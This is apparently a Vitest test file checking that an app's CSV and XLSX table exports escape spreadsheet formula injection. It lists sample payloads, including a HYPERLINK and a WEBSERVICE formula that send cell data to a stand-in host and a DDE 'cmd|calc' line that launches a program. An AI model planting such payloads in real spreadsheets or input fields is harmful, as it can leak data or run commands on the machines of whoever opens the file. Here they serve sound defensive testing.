import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import readXlsxFile from 'read-excel-file/node'
import { expect, test } from 'vitest'
import { csvOf } from '../../db/documents/csv.ts'
import { xlsxOf } from '../../db/documents/xlsx.ts'
import { startTestBackend } from '../support/backend.ts'
import { textInZip } from '../support/zip.ts'

/**
 * Somebody types a formula as the name of a location or as a source. Opened in a spreadsheet it could fetch a page or start a
 * program with the figures of the whole city in it; so it has to stay text.
 */
const attacks = [
  '=HYPERLINK("http://x/?"&A1)',
  "+1+cmd|'/C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '|calc',
]

test('every text that a spreadsheet would calculate gets an apostrophe in CSV', () => {
  const lines = new TextDecoder('utf-8', { ignoreBOM: false }).decode(csvOf(attacks.map((attack) => ['x', attack]))).split('\r\n')
  for (const [index, attack] of attacks.entries()) {
    const cell = (lines[index] ?? '').slice(2)
    const plain = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell
    expect(plain).toBe(`'${attack}`)
  }
})

test('a separator, a quote and a line break stay inside their cell, and numbers stay numbers', () => {
  const text = new TextDecoder().decode(csvOf([['a;b', 'zeg "ja"', 'twee\nregels', -2.5, 0, null]]))
  expect(text).toBe('"a;b";"zeg ""ja""";"twee\nregels";-2,5;0;\r\n')
})

test('every text is a text cell in XLSX: no formula is in the file', async () => {
  const bytes = await xlsxOf([
    { name: 'Blad', rows: [['kop', 'tekst'], ...attacks.map((attack) => ['x', attack])], widths: [8, 40], headRow: 0 },
  ])
  const sheet = textInZip(bytes, 'xl/worksheets/sheet1.xml')
  expect(sheet).toContain('<sheetData>')
  expect(sheet).not.toMatch(/<f[ >]/)
  const cells = sheet.match(/<c [^>]*>/g) ?? []
  expect(cells.length).toBeGreaterThanOrEqual(attacks.length * 2)
  for (const cell of cells) expect(cell).toMatch(/t="(s|inlineStr|str)"/)
  const [read] = await readXlsxFile(Buffer.from(bytes))
  expect(read?.data.slice(1).map((row) => row[1])).toEqual(
    attacks.map((attack) => (attack.trim() === attack ? attack : (expect.stringContaining('1+1') as unknown))),
  )
})

test('a control character does not make the workbook unreadable', async () => {
  const bytes = await xlsxOf([{ name: 'Blad', rows: [['kop'], ['een\u0000\u0008twee <b>&'], ['\ud800']], widths: [8], headRow: 0 }])
  const [read] = await readXlsxFile(Buffer.from(bytes))
  expect(read?.data[1]).toEqual(['eentwee <b>&'])
})

test('a formula as the source of a denominator is harmless in both files', async () => {
  const backend = await startTestBackend({ kind: 'projectleider' })
  try {
    const source = '=WEBSERVICE("http://x")'
    await backend.call('wijkanalyse.setDenominator', { wijkCode: 'WK034403', peildatum: '2026-10-01', adviesCount: 100, source })
    backend.dialogs.savePath = join(backend.scratch, 'tabel.csv')
    await backend.call('wijkanalyse.saveTable', { peildatum: '2026-10-01', format: 'csv' })
    expect(readFileSync(backend.dialogs.savePath, 'utf8')).toContain(`"'=WEBSERVICE(""http://x"")"`)
    backend.dialogs.savePath = join(backend.scratch, 'tabel.xlsx')
    await backend.call('wijkanalyse.saveTable', { peildatum: '2026-10-01', format: 'xlsx' })
    const [sheet] = await readXlsxFile(backend.dialogs.savePath)
    expect(sheet?.data.flat()).toContain(source)
    expect(textInZip(Uint8Array.from(readFileSync(backend.dialogs.savePath)), 'xl/worksheets/sheet1.xml')).not.toMatch(/<f[ >]/)
  } finally {
    await backend.stop()
  }
})
